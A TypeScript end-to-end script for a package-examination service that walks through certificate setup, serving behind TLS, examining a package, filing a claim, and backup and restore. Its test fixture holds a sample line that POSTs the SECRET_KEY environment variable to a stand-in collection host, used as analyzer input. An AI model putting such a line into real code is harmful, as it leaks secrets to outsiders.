/**
 * The way of a new administrator by docs/operate.md, each step as it is told
 * there: from nothing to a service behind TLS, a product examined and a claim
 * filed there, a backup, and that restored elsewhere, where the claim is too.
 *
 * `node tools/operate/try.ts`: says each step, and ends with 1 at the first that
 * fails. Needs openssl for a certificate, and tar; nothing from outside.
 */
import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { request as ask } from 'node:http';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { fileURLToPath } from 'node:url';

const AVOW = fileURLToPath(new URL('../../packages/cli/bin/avow.js', import.meta.url));
const READY_MS = 60_000;

const PRODUCT = {
  'package.json': '{"name": "leaks", "version": "1.0.0", "main": "index.js"}',
  'index.js': [
    "const https = require('node:https');",
    'exports.send = () => {',
    "  const request = https.request('https://collect.example.org/', { method: 'POST' });",
    '  request.end(process.env.SECRET_KEY);',
    '};',
    '',
  ].join('\n'),
};
const CLAIM = 'pkg:npm/leaks@1.0.0#index.js @line:3\nfeature: net.http';

const folder = mkdtempSync(join(tmpdir(), 'avow-try-'));
const at = (path: string): string => join(folder, path);
const children = new Set<ChildProcess>();
const token = randomBytes(24).toString('base64url');

try {
  await tryAll();
  say('done', 'a service from nothing, its backup, and the same service elsewhere');
} catch (error) {
  process.exitCode = 1;
  say('failed', error instanceof Error ? (error.stack ?? error.message) : String(error));
} finally {
  for (const child of children) child.kill('SIGKILL');
  rmSync(folder, { recursive: true, force: true });
}

async function tryAll(): Promise<void> {
  say('certificate', 'for localhost, by ourselves');
  const subject = ['-subj', '/CN=localhost', '-addext', 'subjectAltName=DNS:localhost'];
  const kind = ['-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes'];
  const files = ['-keyout', at('key.pem'), '-out', at('cert.pem'), '-days', '1'];
  execFileSync('openssl', ['req', ...kind, ...files, ...subject], { stdio: 'pipe' });

  const first = await started('first');
  say('doctor', 'of the service that runs');
  const doctor = await avow('doctor', '--config', first.config);
  expect(doctor.status === 0, doctor.stdout + doctor.stderr);
  process.stdout.write(doctor.stdout);
  expect((await got(`${first.url}/metrics`)) === 404, 'numbers are not for the outside');

  say('product', 'handed in and examined');
  for (const [name, content] of Object.entries(PRODUCT)) {
    mkdirSync(at('package'), { recursive: true });
    writeFileSync(at(`package/${name}`), content);
  }
  execFileSync('tar', ['czf', 'leaks.tgz', 'package'], { cwd: folder });
  const examined = await avow('examine', at('leaks.tgz'), '--public', '--server', first.url);
  expect(examined.status === 1 || examined.status === 0, examined.stderr);

  say('claim', 'by nobody who gave a name, who proves work and gets a code');
  const made = await avowAs(undefined, 'claim', 'new', '--text', CLAIM, '--server', first.url);
  expect(made.status === 0, made.stdout + made.stderr);
  const code = /Receipt code: (\S+)/.exec(made.stdout)?.[1];
  expect(code !== undefined && /claim-1: valid/.test(made.stdout), made.stdout);

  say('backup', 'while it runs');
  const backup = await avow('backup', at('backup.tar'), '--config', first.config);
  expect(backup.status === 0, backup.stderr);
  expect((statSync(at('backup.tar')).mode & 0o077) === 0, 'a backup is its owner’s alone');
  await first.stop();

  say('restore', 'into another folder');
  const second = await started('second', async (config) => {
    const restored = await avow('restore', at('backup.tar'), '--config', config);
    expect(restored.status === 0, restored.stderr);
    expect(restored.stdout === backup.stdout, 'as many rows and objects');
  });
  const there = await avowAs(code, 'claim', 'show', '-', '--server', second.url);
  expect(/claim-1: valid/.test(there.stdout), there.stdout + there.stderr);
  const log = readFileSync(at('second.log'), 'utf8');
  expect(!log.includes(code!), 'no code is in the log');
  await second.stop();
}

interface Service {
  readonly url: string;
  readonly config: string;
  stop(): Promise<void>;
}

/** A service in a folder of its own, and a proxy with TLS before it, as nginx.conf has it. */
async function started(
  name: string,
  before: (config: string) => Promise<void> = async () => {},
): Promise<Service> {
  const port = await freePort();
  const proxy = proxyTo(port);
  proxy.listen(0, 'localhost');
  await once(proxy, 'listening');
  const url = `https://localhost:${(proxy.address() as AddressInfo).port}`;
  const config = at(`${name}.yaml`);
  const sha256 = createHash('sha256').update(token).digest('hex');
  const lines = [
    `data: ${at(name)}`,
    `url: ${url}`,
    `port: ${port}`,
    'proxies: 1',
    'publisher: { name: Example authority, namespace: https://example.org }',
    `tokens: [{ name: first-administrator, sha256: ${sha256}, grants: [{ role: administrator }] }]`,
  ];
  writeFileSync(config, `${lines.join('\n')}\n`, { mode: 0o600 });
  await before(config);
  say('serve', `${url}, from ${config}`);
  const child = spawn(process.execPath, [AVOW, 'serve', '--config', config], {
    env: environment(),
    stdio: ['ignore', 'ignore', 'pipe'],
  });
  children.add(child);
  let told = '';
  child.stderr.on('data', (data) => {
    told += data;
    writeFileSync(at(`${name}.log`), told);
  });
  const until = Date.now() + READY_MS;
  while ((await got(`${url}/readyz`).catch(() => 0)) !== 200) {
    expect(Date.now() < until && child.exitCode === null, `it is not ready: ${told}`);
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
  const stop = async (): Promise<void> => {
    child.kill('SIGTERM');
    const [status] = await once(child, 'exit');
    children.delete(child);
    proxy.closeAllConnections();
    proxy.close();
    expect(status === 0, `it ended with ${status}: ${told}`);
  };
  return { url, config, stop };
}

function proxyTo(port: number): Server {
  const tls = { key: readFileSync(at('key.pem')), cert: readFileSync(at('cert.pem')) };
  return createServer(tls, (incoming, outgoing) => {
    if (incoming.url === '/metrics') {
      outgoing.writeHead(404).end();
      return;
    }
    const address = incoming.socket.remoteAddress ?? '';
    const before = incoming.headers['x-forwarded-for'];
    const forwarded = before === undefined ? address : `${before}, ${address}`;
    const headers = { ...incoming.headers, 'x-forwarded-for': forwarded };
    const { method, url: path } = incoming;
    const passed = ask({ port, method, path, headers }, (answer) => {
      outgoing.writeHead(answer.statusCode ?? 502, answer.headers);
      answer.pipe(outgoing);
    });
    passed.once('error', () => outgoing.writeHead(502).end());
    incoming.pipe(passed);
  });
}

function environment(): NodeJS.ProcessEnv {
  const { AVOW_DATA: _, ...rest } = process.env;
  return {
    ...rest,
    NO_COLOR: '1',
    AVOW_CACHE: at('cache'),
    AVOW_TOKEN: token,
    NODE_EXTRA_CA_CERTS: at('cert.pem'),
  };
}

function avow(...args: readonly string[]) {
  return run(environment(), '', args);
}

/** Without a token; a receipt code comes on standard input. */
function avowAs(code: string | undefined, ...args: readonly string[]) {
  const { AVOW_TOKEN: _, ...rest } = environment();
  return run(rest, code ?? '', args);
}

async function run(env: NodeJS.ProcessEnv, input: string, args: readonly string[]) {
  process.stdout.write(`$ avow ${args.join(' ').replaceAll('\n', '\\n')}\n`);
  const child = spawn(process.execPath, [AVOW, ...args], { env, cwd: folder });
  children.add(child);
  child.stdin.end(input);
  const [stdout, stderr, [status]] = await Promise.all([
    text(child.stdout),
    text(child.stderr),
    once(child, 'close') as Promise<[number]>,
  ]);
  children.delete(child);
  return { stdout, stderr, status };
}

/** Status of an answer, its certificate held to ours. */
async function got(url: string): Promise<number> {
  const { get } = await import('node:https');
  return new Promise((resolve, reject) => {
    const sent = get(url, { ca: readFileSync(at('cert.pem')), agent: false }, (answer) => {
      answer.resume().once('end', () => resolve(answer.statusCode ?? 0));
    });
    sent.once('error', reject);
  });
}

async function freePort(): Promise<number> {
  const { createServer: create } = await import('node:net');
  const server = create().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  server.close();
  return port;
}

function expect(isSo: boolean, otherwise: string): void {
  if (!isSo) throw new Error(otherwise);
}

function say(step: string, more: string): void {
  process.stdout.write(`${step}: ${more}\n`);
}
